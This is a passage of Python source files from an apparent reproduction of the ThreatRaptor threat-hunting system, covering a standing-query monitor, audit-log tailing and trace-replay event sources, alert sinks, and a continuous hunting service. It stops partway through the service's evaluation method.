    def snapshot_state(self) -> list[dict[str, Any]]:
        """Restart state of every registered hunt, in registration order."""
        return [standing.snapshot() for standing in self._queries.values()]

    def restore_state(self, snapshots: Iterable[dict[str, Any]]) -> list[StandingQuery]:
        """Re-register hunts from checkpoint snapshots and restore their state.

        Each snapshot's TBQL text is re-parsed and re-prepared (plans are
        derived state, cheap to rebuild and tied to the new store), then the
        hunt's counters and dedup signatures are adopted.
        """
        restored: list[StandingQuery] = []
        for snapshot in snapshots:
            standing = self.register(
                snapshot["name"],
                snapshot["query_text"],
                provenance=snapshot.get("provenance", ()),
                canonical_key=snapshot.get("canonical_key"),
            )
            standing.restore(snapshot)
            restored.append(standing)
        return restored

    def reinstate(self, name: str) -> StandingQuery:
        """Clear a hunt's quarantine so the next batch evaluates it again."""
        standing = self._queries[name]
        standing.quarantined = False
        standing.consecutive_errors = 0
        return standing

    # -- evaluation ----------------------------------------------------------

    def evaluate(
        self, batch_index: int, watermark_start_ns: int | None
    ) -> list[Alert]:
        """Re-evaluate every standing query against the current store state.

        Args:
            batch_index: Sequence number recorded on raised alerts.
            watermark_start_ns: Earliest start time of the events the batch
                just made queryable; sink patterns are narrowed to
                ``[watermark, ∞)``.  ``None`` forces a full evaluation.

        Returns:
            The newly raised (deduplicated) alerts across all hunts.
        """
        alerts: list[Alert] = []
        for standing in self._queries.values():
            if standing.quarantined:
                continue
            alerts.extend(self._evaluate_one(standing, batch_index, watermark_start_ns))
        return alerts

    def _evaluate_one(
        self, standing: StandingQuery, batch_index: int, watermark_start_ns: int | None
    ) -> list[Alert]:
        # The first evaluation always scans everything: data ingested before
        # the hunt was registered would otherwise never be matched.
        started = time.perf_counter()
        try:
            if standing.prepared is not None:
                overrides = self._window_overrides(standing, watermark_start_ns)
                result = standing.prepared.execute(window_overrides=overrides)
            else:
                windowed = self._windowed_query(standing, watermark_start_ns)
                result = self._execute(windowed)
        except Exception as exc:  # noqa: BLE001 - one bad hunt must not kill the service
            standing.eval_seconds += time.perf_counter() - started
            standing.evaluations += 1
            standing.errors += 1
            standing.consecutive_errors += 1
            standing.last_error = f"{type(exc).__name__}: {exc}"
            if standing.consecutive_errors >= self._quarantine_after:
                standing.quarantined = True
            return []
        standing.eval_seconds += time.perf_counter() - started
        standing.evaluations += 1
        standing.consecutive_errors = 0
        standing.last_graph_plans = dict(result.statistics.get("graph_plans") or {})
        standing._initialized = True

        alerts: list[Alert] = []
        for binding in result.bindings:
            signature = self._signature(binding)
            if not signature or signature in standing._seen_signatures:
                continue
            standing._seen_signatures.add(signature)
            standing._matched_event_ids.update(signature)
            standing.alerts_raised += 1
            alerts.append(self._alert(standing, batch_index, binding, signature))
        return alerts

    # -- internal ------------------------------------------------------------

    def _window_overrides(
        self, standing: StandingQuery, watermark_start_ns: int | None
    ) -> dict[str, TimeWindow] | None:
        """Watermark window for the sink pattern, as prepared-query overrides.

        Same narrowing policy as :meth:`_windowed_query`, expressed as a
        per-execution parameter instead of a rebuilt AST.
        """
        if (
            watermark_start_ns is None
            or not standing._initialized
            or standing.sink_event_id is None
        ):
            return None
        pattern = standing.query.pattern_by_event_id(standing.sink_event_id)
        window = pattern.window if pattern is not None else None
        start = watermark_start_ns if window is None else max(window.start, watermark_start_ns)
        end = MAX_TIME_NS if window is None else window.end
        return {standing.sink_event_id: TimeWindow(start=start, end=end)}

    def _windowed_query(
        self, standing: StandingQuery, watermark_start_ns: int | None
    ) -> Query:
        """The query to actually run: sink narrowed to new data when possible."""
        if (
            watermark_start_ns is None
            or not standing._initialized
            or standing.sink_event_id is None
        ):
            return standing.query
        patterns = []
        for pattern in standing.query.patterns:
            if pattern.event_id == standing.sink_event_id:
                window = pattern.window
                start = watermark_start_ns if window is None else max(window.start, watermark_start_ns)
                end = MAX_TIME_NS if window is None else window.end
                pattern = replace(pattern, window=TimeWindow(start=start, end=end))
            patterns.append(pattern)
        return replace(standing.query, patterns=patterns)

    @staticmethod
    def _temporal_sink(query: Query) -> str | None:
        """The unique temporally-final pattern every other pattern precedes.

        Windowing is only sound when *every* pattern is ordered before the
        sink: then any match containing a new event has a sink event at least
        as recent, so restricting the sink to ``[watermark, ∞)`` cannot drop a
        new match.  The actual derivation lives in
        :func:`repro.tbql.analysis.structure.temporal_sink`, shared with the
        static analyzer's cost pass (TR301 warns exactly when this returns
        ``None`` for an unwindowed multi-pattern query).
        """
        from repro.tbql.analysis.structure import temporal_sink

        return temporal_sink(query)

    @staticmethod
    def _signature(binding: dict[str, dict[str, Any]]) -> tuple[int, ...]:
        """A match's identity: the sorted set of audit event ids it binds.

        Signatures must be **restart-stable**: they are persisted by the
        checkpoint store and the alert journal and consulted after a restart
        to suppress duplicate alerts, so they may only be derived from the
        event ids the ``@``-prefixed event bindings carry (``evt.num`` values
        from the audit log) — never from ``id()``, object hashes, or any
        other interpreter-run-specific value.  Sorting removes any dependence
        on binding-dict iteration order.
        """
        matched: set[int] = set()
        for key, value in binding.items():
            if key.startswith("@"):
                matched.update(int(event_id) for event_id in value.get("edge_ids", ()))
        return tuple(sorted(matched))

    @staticmethod
    def _alert(
        standing: StandingQuery,
        batch_index: int,
        binding: dict[str, dict[str, Any]],
        signature: Iterable[int],
    ) -> Alert:
        starts: list[int] = []
        ends: list[int] = []
        entities: dict[str, Any] = {}
        for key, value in binding.items():
            if key.startswith("@"):
                starts.append(value["starttime"])
                ends.append(value["endtime"])
                continue
            display = value.get("id")
            try:
                attribute = DEFAULT_ATTRIBUTE[EntityType(value.get("type"))]
                display = value.get(attribute, display)
            except ValueError:
                pass
            entities[key] = display
        return Alert(
            hunt=standing.name,
            batch_index=batch_index,
            matched_event_ids=tuple(signature),
            start_time_ns=min(starts) if starts else 0,
            end_time_ns=max(ends) if ends else 0,
            entities=entities,
            reports=standing.provenance,
        )


__all__ = ["MAX_TIME_NS", "QueryMonitor", "StandingQuery"]
