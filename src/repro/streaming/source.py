"""Event sources: where a continuous stream of audit events comes from.

In the paper's deployment Sysdig keeps writing audit records while the hunting
system runs; this module provides the equivalents for the reproduction:

* :class:`LogTailSource` — reads a Sysdig-style log incrementally, reusing
  :class:`~repro.auditing.parser.AuditLogParser` line by line (optionally
  following the file as a collector appends to it, like ``tail -f``);
* :class:`ReplaySource` — replays a trace produced by the workload generator
  in event-time order, at an optionally throttled rate, so live-monitoring
  scenarios can be driven deterministically.

Every source yields :class:`StreamRecord` items: one event plus its subject
and object entities, which is exactly what incremental ingestion needs (the
ingest layer deduplicates entities across records and batches).
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Iterable, Iterator, TextIO

from repro.auditing.entities import EntityFactory, SystemEntity
from repro.auditing.events import SystemEvent
from repro.auditing.parser import AuditLogParser, ParseStatistics
from repro.auditing.trace import AuditTrace
from repro.errors import ConfigurationError


@dataclass(frozen=True)
class StreamRecord:
    """One streamed audit event with its endpoint entities.

    Attributes:
        event: The audited system event.
        subject: The acting process entity.
        obj: The object entity (file, process or network connection).
        malicious: Ground-truth label when the source knows it (replay of a
            simulated trace); always ``False`` for parsed logs.
    """

    event: SystemEvent
    subject: SystemEntity
    obj: SystemEntity
    malicious: bool = False

    def entities(self) -> tuple[SystemEntity, SystemEntity]:
        return (self.subject, self.obj)


class EventSource:
    """Base class for streaming event sources."""

    def records(self) -> Iterator[StreamRecord]:
        """Yield the source's records in arrival order."""
        raise NotImplementedError

    def __iter__(self) -> Iterator[StreamRecord]:
        return self.records()


class LogTailSource(EventSource):
    """Tails a Sysdig-style audit log, parsing records incrementally.

    Args:
        path: Log file to read.  Alternatively pass an open ``stream``.
        stream: An already-open text stream (takes precedence over ``path``).
        host: Hostname recorded on parsed entities/events.
        follow: Keep polling for new lines after reaching end of file
            (``tail -f``); reads once to the end when False.
        poll_interval: Seconds between polls in follow mode.
        max_events: Stop after yielding this many events (mainly for bounding
            follow-mode runs in tests and demos).
        strict: Abort on the first malformed record instead of skipping it.
    """

    def __init__(
        self,
        path: str | None = None,
        stream: TextIO | None = None,
        host: str = "localhost",
        follow: bool = False,
        poll_interval: float = 0.2,
        max_events: int | None = None,
        strict: bool = False,
    ) -> None:
        if path is None and stream is None:
            raise ConfigurationError("LogTailSource needs a path or a stream")
        self._path = path
        self._stream = stream
        self._parser = AuditLogParser(host=host, strict=strict)
        self._factory = EntityFactory(host=host)
        self._follow = follow
        self._poll_interval = poll_interval
        self._max_events = max_events
        self.statistics = ParseStatistics()

    def records(self) -> Iterator[StreamRecord]:
        if self._stream is not None:
            yield from self._records_from(self._stream)
            return
        assert self._path is not None
        with open(self._path, "r", encoding="utf-8") as handle:
            yield from self._records_from(handle)

    def _records_from(self, handle: TextIO) -> Iterator[StreamRecord]:
        yielded = 0
        for line in self._tail_lines(handle):
            for event, subject, obj in self._parser.iter_events(
                [line], factory=self._factory, stats=self.statistics
            ):
                yield StreamRecord(event=event, subject=subject, obj=obj)
                yielded += 1
                if self._max_events is not None and yielded >= self._max_events:
                    return

    def _tail_lines(self, handle: TextIO) -> Iterator[str]:
        # A collector may write a record non-atomically; readline() at EOF can
        # return a partial line with no terminator.  Buffer until the newline
        # arrives so a half-written record is never parsed as complete.
        pending = ""
        while True:
            chunk = handle.readline()
            if chunk:
                pending += chunk
                if pending.endswith("\n"):
                    yield pending
                    pending = ""
                continue
            if not self._follow:
                if pending:
                    yield pending
                return
            time.sleep(self._poll_interval)


class ReplaySource(EventSource):
    """Replays an in-memory trace as a stream, in event-time order.

    The source drives the existing workload generator output
    (:class:`~repro.auditing.workload.generator.SimulationResult` or a bare
    :class:`~repro.auditing.trace.AuditTrace`) through the streaming pipeline,
    carrying the ground-truth malicious labels along so evaluation harnesses
    can score live hunts.

    Args:
        trace: The trace (or simulation result exposing ``.trace``) to replay.
        rate_events_per_second: Throttle the replay to roughly this many
            events per second by sleeping between yields; unthrottled when
            ``None`` (the default, used by tests and benchmarks).
        max_events: Replay only the first ``max_events`` events.
    """

    def __init__(
        self,
        trace: AuditTrace | object,
        rate_events_per_second: float | None = None,
        max_events: int | None = None,
    ) -> None:
        if not isinstance(trace, AuditTrace):
            trace = getattr(trace, "trace")
        if rate_events_per_second is not None and rate_events_per_second <= 0:
            raise ConfigurationError("rate_events_per_second must be positive")
        self._trace = trace
        self._rate = rate_events_per_second
        self._max_events = max_events

    def records(self) -> Iterator[StreamRecord]:
        trace = self._trace
        delay = 1.0 / self._rate if self._rate is not None else 0.0
        ordered = sorted(trace.events, key=lambda e: (e.start_time, e.event_id))
        if self._max_events is not None:
            ordered = ordered[: self._max_events]
        for event in ordered:
            if delay:
                time.sleep(delay)
            yield StreamRecord(
                event=event,
                subject=trace.entity(event.subject_id),
                obj=trace.entity(event.object_id),
                malicious=event.event_id in trace.malicious_event_ids,
            )


def iter_batches(
    records: Iterable[StreamRecord], batch_size: int
) -> Iterator[list[StreamRecord]]:
    """Group a record stream into micro-batches of at most ``batch_size``."""
    if batch_size < 1:
        raise ValueError("batch_size must be at least 1")
    batch: list[StreamRecord] = []
    for record in records:
        batch.append(record)
        if len(batch) >= batch_size:
            yield batch
            batch = []
    if batch:
        yield batch


__all__ = ["EventSource", "LogTailSource", "ReplaySource", "StreamRecord", "iter_batches"]
