"""Event sources: where a continuous stream of audit events comes from.

In the paper's deployment Sysdig keeps writing audit records while the hunting
system runs; this module provides the equivalents for the reproduction:

* :class:`LogTailSource` — reads a Sysdig-style log incrementally, reusing
  :class:`~repro.auditing.parser.AuditLogParser` line by line (optionally
  following the file as a collector appends to it, like ``tail -f``);
* :class:`ReplaySource` — replays a trace produced by the workload generator
  in event-time order, at an optionally throttled rate, so live-monitoring
  scenarios can be driven deterministically.

Every source yields :class:`StreamRecord` items: one event plus its subject
and object entities, which is exactly what incremental ingestion needs (the
ingest layer deduplicates entities across records and batches).

Sources are hardened for continuous operation:

* a **torn final line** (a collector caught mid-write) is buffered until its
  newline arrives, or counted in ``ParseStatistics.records_torn`` at end of a
  bounded read — never parsed as a complete record, never silently dropped;
* in follow mode :class:`LogTailSource` detects **rotation and truncation**
  (inode change / file shrink) and reopens the new file from the start;
* transient read ``OSError``\\ s can be wrapped in a deterministic
  :class:`~repro.streaming.retry.RetryPolicy` shared with the alert sinks;
* path-mode tailing tracks a byte **offset** that the hunting service
  checkpoints after every micro-batch, so a deployment with durable audit
  storage can resume the tail exactly where it stopped
  (``start_offset=``/``start_inode=``).
"""

from __future__ import annotations

import os
import time
from dataclasses import dataclass
from typing import Any, Callable, Iterable, Iterator, TextIO

from repro.auditing.entities import EntityFactory, SystemEntity
from repro.auditing.events import SystemEvent
from repro.auditing.parser import AuditLogParser, ParseStatistics
from repro.auditing.trace import AuditTrace
from repro.errors import ConfigurationError
from repro.streaming.retry import RetryPolicy, RetryStats


@dataclass(frozen=True)
class StreamRecord:
    """One streamed audit event with its endpoint entities.

    Attributes:
        event: The audited system event.
        subject: The acting process entity.
        obj: The object entity (file, process or network connection).
        malicious: Ground-truth label when the source knows it (replay of a
            simulated trace); always ``False`` for parsed logs.
    """

    event: SystemEvent
    subject: SystemEntity
    obj: SystemEntity
    malicious: bool = False

    def entities(self) -> tuple[SystemEntity, SystemEntity]:
        return (self.subject, self.obj)


class EventSource:
    """Base class for streaming event sources."""

    def records(self) -> Iterator[StreamRecord]:
        """Yield the source's records in arrival order."""
        raise NotImplementedError

    def __iter__(self) -> Iterator[StreamRecord]:
        return self.records()

    def checkpoint_state(self) -> dict[str, Any]:
        """Resume state the hunting service persists after each micro-batch.

        The base implementation records nothing; sources that can resume
        (log tailing by byte offset, replay by position) override it.
        """
        return {"kind": type(self).__name__}


class LogTailSource(EventSource):
    """Tails a Sysdig-style audit log, parsing records incrementally.

    Args:
        path: Log file to read.  Alternatively pass an open ``stream``.
        stream: An already-open text stream (takes precedence over ``path``).
        host: Hostname recorded on parsed entities/events.
        follow: Keep polling for new lines after reaching end of file
            (``tail -f``); reads once to the end when False.
        poll_interval: Seconds between polls in follow mode.
        max_events: Stop after yielding this many events (mainly for bounding
            follow-mode runs in tests and demos).
        strict: Abort on the first malformed record instead of skipping it.
        retry: Optional :class:`RetryPolicy` wrapping every read/open/stat, so
            transient ``OSError`` s back off deterministically instead of
            killing the stream; exhaustion raises
            :class:`~repro.errors.RetryExhaustedError`.
        start_offset: Byte offset (path mode) to resume tailing from, as
            previously recorded by :meth:`checkpoint_state`.  Ignored — the
            tail restarts from 0 — when the file has shrunk below it or
            ``start_inode`` no longer matches (the log rotated while the
            service was down).
        start_inode: Inode the recorded ``start_offset`` belongs to.
        sleep: Injection point for poll/backoff sleeping (tests).
    """

    def __init__(
        self,
        path: str | None = None,
        stream: TextIO | None = None,
        host: str = "localhost",
        follow: bool = False,
        poll_interval: float = 0.2,
        max_events: int | None = None,
        strict: bool = False,
        retry: RetryPolicy | None = None,
        start_offset: int = 0,
        start_inode: int | None = None,
        sleep: Callable[[float], None] = time.sleep,
    ) -> None:
        if path is None and stream is None:
            raise ConfigurationError("LogTailSource needs a path or a stream")
        if start_offset < 0:
            raise ConfigurationError("start_offset must be non-negative")
        self._path = path
        self._stream = stream
        self._parser = AuditLogParser(host=host, strict=strict)
        self._factory = EntityFactory(host=host)
        self._follow = follow
        self._poll_interval = poll_interval
        self._max_events = max_events
        self._retry = retry
        self._start_offset = start_offset
        self._start_inode = start_inode
        self._sleep = sleep
        self.statistics = ParseStatistics()
        self.retry_stats = RetryStats()
        #: Committed byte offset: start of the first byte not yet yielded as a
        #: complete line (path mode).  A torn partial tail is *not* committed,
        #: so a resumed tail re-reads and completes it.
        self.offset = 0
        #: Inode of the file currently being tailed (path mode).
        self.inode: int | None = None
        #: Log rotations (inode changed) and truncations (file shrank)
        #: detected and survived in follow mode.
        self.rotations = 0
        self.truncations = 0

    # -- record iteration ----------------------------------------------------

    def records(self) -> Iterator[StreamRecord]:
        if self._stream is not None:
            yield from self._records_from(self._tail_stream(self._stream))
            return
        assert self._path is not None
        yield from self._records_from(self._tail_path())

    def checkpoint_state(self) -> dict[str, Any]:
        """Resume state: the committed byte offset and the inode it is valid
        for.  Feed these back as ``start_offset=``/``start_inode=`` to resume
        the tail (deployments with durable audit storage); in-memory
        deployments replay from offset 0 and rely on dedup instead."""
        return {
            "kind": "log-tail",
            "path": self._path,
            "offset": self.offset,
            "inode": self.inode,
        }

    def _records_from(self, lines: Iterator[str]) -> Iterator[StreamRecord]:
        yielded = 0
        for line in lines:
            for event, subject, obj in self._parser.iter_events(
                [line], factory=self._factory, stats=self.statistics
            ):
                yield StreamRecord(event=event, subject=subject, obj=obj)
                yielded += 1
                if self._max_events is not None and yielded >= self._max_events:
                    return

    # -- stream-mode tailing -------------------------------------------------

    def _tail_stream(self, handle: TextIO) -> Iterator[str]:
        # A collector may write a record non-atomically; readline() at EOF can
        # return a partial line with no terminator.  Buffer until the newline
        # arrives so a half-written record is never parsed as complete; a
        # bounded (non-follow) read that ends on a partial line counts it as
        # torn instead of parsing or dropping it.
        pending = ""
        while True:
            chunk = self._guarded(handle.readline)
            if chunk:
                pending += chunk
                if pending.endswith("\n"):
                    yield pending
                    pending = ""
                continue
            if not self._follow:
                if pending:
                    self.statistics.records_torn += 1
                return
            self._sleep(self._poll_interval)

    # -- path-mode tailing ---------------------------------------------------

    def _tail_path(self) -> Iterator[str]:
        handle, inode = self._open_log()
        position = 0
        if self._start_offset and (self._start_inode in (None, inode)):
            size = os.fstat(handle.fileno()).st_size
            if self._start_offset <= size:
                handle.seek(self._start_offset)
                position = self._start_offset
            # else: the file shrank below the recorded offset while the
            # service was down (rotation/truncation) — restart from 0.
        self.offset = position
        self.inode = inode
        pending = b""
        try:
            while True:
                chunk = self._guarded(handle.readline)
                if chunk:
                    pending += chunk
                    position += len(chunk)
                    if pending.endswith(b"\n"):
                        self.offset = position
                        yield pending.decode("utf-8", errors="replace")
                        pending = b""
                    continue
                if not self._follow:
                    if pending:
                        # Torn final line: a collector mid-write.  Count it
                        # (visible in statistics) and leave `offset` at its
                        # start so a resumed tail re-reads the whole record.
                        self.statistics.records_torn += 1
                    return
                reopened = self._check_rotation(inode, position)
                if reopened is not None:
                    handle.close()
                    handle, inode = reopened
                    position = 0
                    self.offset = 0
                    self.inode = inode
                    if pending:
                        self.statistics.records_torn += 1
                        pending = b""
                    continue
                self._sleep(self._poll_interval)
        finally:
            handle.close()

    def _open_log(self):
        def opener():
            handle = open(self._path, "rb")  # type: ignore[arg-type]
            return handle, os.fstat(handle.fileno()).st_ino
        return self._guarded(opener)

    def _check_rotation(self, inode: int, position: int):
        """Reopened (handle, inode) after a rotation/truncation, else None."""
        assert self._path is not None
        try:
            stat = self._guarded(lambda: os.stat(self._path))
        except FileNotFoundError:
            return None  # mid-rotation gap: keep polling until the new file lands
        if stat.st_ino != inode:
            self.rotations += 1
            return self._open_log()
        if stat.st_size < position:
            self.truncations += 1
            return self._open_log()
        return None

    def _guarded(self, fn):
        if self._retry is None:
            return fn()
        return self._retry.call(fn, sleep=self._sleep, stats=self.retry_stats)


class ReplaySource(EventSource):
    """Replays an in-memory trace as a stream, in event-time order.

    The source drives the existing workload generator output
    (:class:`~repro.auditing.workload.generator.SimulationResult` or a bare
    :class:`~repro.auditing.trace.AuditTrace`) through the streaming pipeline,
    carrying the ground-truth malicious labels along so evaluation harnesses
    can score live hunts.

    Args:
        trace: The trace (or simulation result exposing ``.trace``) to replay.
        rate_events_per_second: Throttle the replay to roughly this many
            events per second by sleeping between yields; unthrottled when
            ``None`` (the default, used by tests and benchmarks).
        max_events: Replay only the first ``max_events`` events.
        start_position: Skip this many events of the time-ordered replay
            (resume counterpart of :meth:`checkpoint_state`).
    """

    def __init__(
        self,
        trace: AuditTrace | object,
        rate_events_per_second: float | None = None,
        max_events: int | None = None,
        start_position: int = 0,
    ) -> None:
        if not isinstance(trace, AuditTrace):
            trace = getattr(trace, "trace")
        if rate_events_per_second is not None and rate_events_per_second <= 0:
            raise ConfigurationError("rate_events_per_second must be positive")
        if start_position < 0:
            raise ConfigurationError("start_position must be non-negative")
        self._trace = trace
        self._rate = rate_events_per_second
        self._max_events = max_events
        self._start_position = start_position
        #: Events yielded so far plus the starting skip — the replay offset
        #: the hunting service checkpoints after each micro-batch.
        self.position = start_position

    def checkpoint_state(self) -> dict[str, Any]:
        return {"kind": "replay", "position": self.position}

    def records(self) -> Iterator[StreamRecord]:
        trace = self._trace
        delay = 1.0 / self._rate if self._rate is not None else 0.0
        ordered = sorted(trace.events, key=lambda e: (e.start_time, e.event_id))
        if self._start_position:
            ordered = ordered[self._start_position :]
        if self._max_events is not None:
            ordered = ordered[: self._max_events]
        self.position = self._start_position
        for event in ordered:
            if delay:
                time.sleep(delay)
            yield StreamRecord(
                event=event,
                subject=trace.entity(event.subject_id),
                obj=trace.entity(event.object_id),
                malicious=event.event_id in trace.malicious_event_ids,
            )
            self.position += 1


def iter_batches(
    records: Iterable[StreamRecord], batch_size: int
) -> Iterator[list[StreamRecord]]:
    """Group a record stream into micro-batches of at most ``batch_size``."""
    if batch_size < 1:
        raise ValueError("batch_size must be at least 1")
    batch: list[StreamRecord] = []
    for record in records:
        batch.append(record)
        if len(batch) >= batch_size:
            yield batch
            batch = []
    if batch:
        yield batch


__all__ = ["EventSource", "LogTailSource", "ReplaySource", "StreamRecord", "iter_batches"]
