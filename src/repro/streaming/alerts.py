"""Structured alerts raised by standing hunts, and where they go.

An :class:`Alert` is one new match of a standing query: which hunt fired, in
which micro-batch, over which audit events, and which concrete system entities
were bound.  Sinks deliver alerts somewhere useful — a callback for in-process
consumers, a JSONL stream for files/pipes, or an in-memory list for tests.
"""

from __future__ import annotations

import json
import time
from dataclasses import dataclass, field
from typing import Any, Callable, TextIO

from repro.streaming.retry import RetryPolicy, RetryStats


@dataclass(frozen=True)
class Alert:
    """One deduplicated standing-query match.

    Attributes:
        hunt: Name of the standing hunt that fired.
        batch_index: Micro-batch (0-based) whose data completed the match.
        matched_event_ids: The stored audit event ids bound by the match; the
            alert's identity for deduplication.
        start_time_ns: Earliest event start among the matched events.
        end_time_ns: Latest event end among the matched events.
        entities: Bound entities, ``identifier -> display value`` (process
            exename, file name, connection dstip).  Excluded from hashing
            (``hash=False``): the frozen dataclass generates ``__hash__`` from
            its fields, and a mutable dict field would make every ``hash()``
            call — e.g. putting alerts in a set — raise ``TypeError``.
            Equality still compares it, which is sound: excluding a field from
            the hash can only widen hash buckets, never split equal values.
        reports: Ids of the OSCTI reports whose synthesized behavior this hunt
            stands for (corpus provenance).  Empty for hunts registered from a
            hand-written query or a single anonymous report.
    """

    hunt: str
    batch_index: int
    matched_event_ids: tuple[int, ...]
    start_time_ns: int
    end_time_ns: int
    entities: dict[str, Any] = field(default_factory=dict, hash=False)
    reports: tuple[str, ...] = ()

    def to_dict(self) -> dict[str, Any]:
        """JSON-serialisable representation (JSONL sink, APIs)."""
        return {
            "hunt": self.hunt,
            "batch": self.batch_index,
            "matched_event_ids": list(self.matched_event_ids),
            "start_time_ns": self.start_time_ns,
            "end_time_ns": self.end_time_ns,
            "entities": dict(self.entities),
            "reports": list(self.reports),
        }

    @classmethod
    def from_dict(cls, payload: dict[str, Any]) -> "Alert":
        """Rebuild an alert from its :meth:`to_dict` form (journal recovery)."""
        return cls(
            hunt=str(payload["hunt"]),
            batch_index=int(payload["batch"]),
            matched_event_ids=tuple(int(event_id) for event_id in payload["matched_event_ids"]),
            start_time_ns=int(payload["start_time_ns"]),
            end_time_ns=int(payload["end_time_ns"]),
            entities=dict(payload.get("entities", {})),
            reports=tuple(payload.get("reports", ())),
        )

    def describe(self) -> str:
        """One-line human-readable rendering for CLIs and logs."""
        bound = ", ".join(f"{name}={value}" for name, value in sorted(self.entities.items()))
        line = (
            f"[{self.hunt}] batch={self.batch_index} "
            f"events={list(self.matched_event_ids)} {bound}"
        )
        if self.reports:
            line += f" reports={','.join(self.reports)}"
        return line


class AlertSink:
    """Base class for alert destinations."""

    def emit(self, alert: Alert) -> None:
        raise NotImplementedError


class CallbackSink(AlertSink):
    """Invokes ``callback(alert)`` for every alert."""

    def __init__(self, callback: Callable[[Alert], None]) -> None:
        self._callback = callback

    def emit(self, alert: Alert) -> None:
        self._callback(alert)


class ListSink(AlertSink):
    """Collects alerts in memory (tests, notebooks)."""

    def __init__(self) -> None:
        self.alerts: list[Alert] = []

    def emit(self, alert: Alert) -> None:
        self.alerts.append(alert)

    def __len__(self) -> int:
        return len(self.alerts)


class JSONLSink(AlertSink):
    """Writes one JSON object per alert to a text stream."""

    def __init__(self, stream: TextIO) -> None:
        self._stream = stream

    def emit(self, alert: Alert) -> None:
        self._stream.write(json.dumps(alert.to_dict(), sort_keys=True))
        self._stream.write("\n")
        self._stream.flush()


class RetryingSink(AlertSink):
    """Guards a flaky sink with a :class:`RetryPolicy`.

    Transient ``OSError``\\ s from the wrapped sink (a full pipe, a webhook
    hiccup) are retried with deterministic backoff instead of killing the
    hunting service; a persistently failing delivery surfaces as
    :class:`~repro.errors.RetryExhaustedError` after the policy's attempts
    are exhausted.  Retries are counted in :attr:`stats` so
    ``HuntingService.statistics()`` accounts for every injected or real
    fault.
    """

    def __init__(
        self,
        inner: AlertSink,
        policy: RetryPolicy | None = None,
        sleep: Callable[[float], None] = time.sleep,
    ) -> None:
        self._inner = inner
        self._policy = policy if policy is not None else RetryPolicy()
        self._sleep = sleep
        self.stats = RetryStats()

    @property
    def inner(self) -> AlertSink:
        return self._inner

    def emit(self, alert: Alert) -> None:
        self._policy.call(self._inner.emit, alert, sleep=self._sleep, stats=self.stats)


__all__ = ["Alert", "AlertSink", "CallbackSink", "JSONLSink", "ListSink", "RetryingSink"]
