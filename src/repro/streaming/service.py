"""The continuous hunting service: ingestion + standing queries + alerts.

:class:`HuntingService` turns the one-shot ThreatRaptor pipeline into a
continuously running monitor.  It owns a
:class:`~repro.streaming.ingest.StreamIngestor` appending micro-batches into
the shared audit store and a :class:`~repro.streaming.monitor.QueryMonitor`
re-evaluating every registered hunt after each batch, dispatching new matches
to the configured alert sinks.

Typical usage::

    raptor = ThreatRaptor()
    service = raptor.watch(report_text, name="figure2")
    service.add_sink(CallbackSink(lambda alert: print(alert.describe())))
    service.run(LogTailSource(path="audit.log"))
    print(service.statistics())
"""

from __future__ import annotations

import time
from typing import TYPE_CHECKING, Any, Iterable

from repro.streaming.alerts import Alert, AlertSink
from repro.streaming.ingest import IngestedBatch, StreamIngestor
from repro.streaming.monitor import QueryMonitor, StandingQuery
from repro.streaming.source import EventSource, StreamRecord
from repro.tbql.ast import Query

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, typing only
    from repro.core.pipeline import ThreatRaptor


class HuntingService:
    """Continuous hunting over a stream of audit events.

    Args:
        raptor: The pipeline facade providing storage, synthesis and query
            execution.  A default-configured one is built when omitted.
        batch_size: Records per ingestion micro-batch.
        sinks: Initial alert sinks; more can be added with :meth:`add_sink`.
    """

    def __init__(
        self,
        raptor: "ThreatRaptor | None" = None,
        batch_size: int = 256,
        sinks: Iterable[AlertSink] = (),
    ) -> None:
        if raptor is None:
            from repro.core.pipeline import ThreatRaptor

            raptor = ThreatRaptor()
        self._raptor = raptor
        self._ingestor = StreamIngestor(raptor.store, batch_size=batch_size)
        self._monitor = QueryMonitor(raptor.execute_query, prepare=raptor.prepare_query)
        self._sinks: list[AlertSink] = list(sinks)
        self._started = time.perf_counter()

    # -- configuration -------------------------------------------------------

    @property
    def raptor(self) -> "ThreatRaptor":
        return self._raptor

    @property
    def hunts(self) -> list[StandingQuery]:
        return self._monitor.queries

    def add_sink(self, sink: AlertSink) -> "HuntingService":
        """Add one alert destination; returns ``self`` for chaining."""
        self._sinks.append(sink)
        return self

    def register_hunt(
        self,
        name: str,
        report: str | None = None,
        query: Query | str | None = None,
        provenance: Iterable[str] = (),
        canonical_key: str | None = None,
    ) -> StandingQuery:
        """Register a standing hunt from an OSCTI report or a TBQL query.

        Exactly one of ``report`` (OSCTI text, synthesized into a TBQL query on
        registration — the paper's pipeline) or ``query`` (hand-written TBQL
        source or AST) must be given.  ``provenance`` names the originating
        OSCTI report ids; every alert the hunt raises carries them.
        """
        if (report is None) == (query is None):
            raise ValueError("register_hunt needs exactly one of report= or query=")
        if report is not None:
            extraction = self._raptor.extract_behavior_graph(report)
            query = self._raptor.synthesize_query(extraction.graph)
        assert query is not None
        return self._monitor.register(
            name, query, provenance=provenance, canonical_key=canonical_key
        )

    def hunt_by_canonical_key(self, canonical_key: str) -> StandingQuery | None:
        """The registered hunt carrying ``canonical_key``, if any."""
        return self._monitor.by_canonical_key(canonical_key)

    def extend_hunt_provenance(self, name: str, report_ids: Iterable[str]) -> StandingQuery:
        """Append report ids to a hunt's provenance (corpus dedup bookkeeping)."""
        return self._monitor.extend_provenance(name, report_ids)

    # -- processing ----------------------------------------------------------

    def process_batch(self, records: Iterable[StreamRecord]) -> list[Alert]:
        """Ingest one micro-batch and re-evaluate every standing hunt."""
        batch = self._ingestor.ingest(records)
        return self._evaluate(batch)

    def run(
        self, source: EventSource | Iterable[StreamRecord], max_batches: int | None = None
    ) -> list[Alert]:
        """Consume a source to exhaustion, then flush pending events.

        Returns every alert raised during the run.  Follow-mode sources never
        exhaust on their own; bound them with ``max_batches`` or the source's
        own ``max_events``.
        """
        alerts: list[Alert] = []
        for processed, batch in enumerate(self._ingestor.ingest_stream(iter(source)), start=1):
            alerts.extend(self._evaluate(batch))
            if max_batches is not None and processed >= max_batches:
                break
        alerts.extend(self.flush())
        return alerts

    def flush(self) -> list[Alert]:
        """Seal pending (merge-open) events and run a final evaluation."""
        batch = self._ingestor.flush()
        if not batch.report.stored_events:
            return []
        return self._evaluate(batch)

    def _evaluate(self, batch: IngestedBatch) -> list[Alert]:
        if not batch.report.stored_events:
            return []
        alerts = self._monitor.evaluate(batch.index, batch.watermark_start_ns)
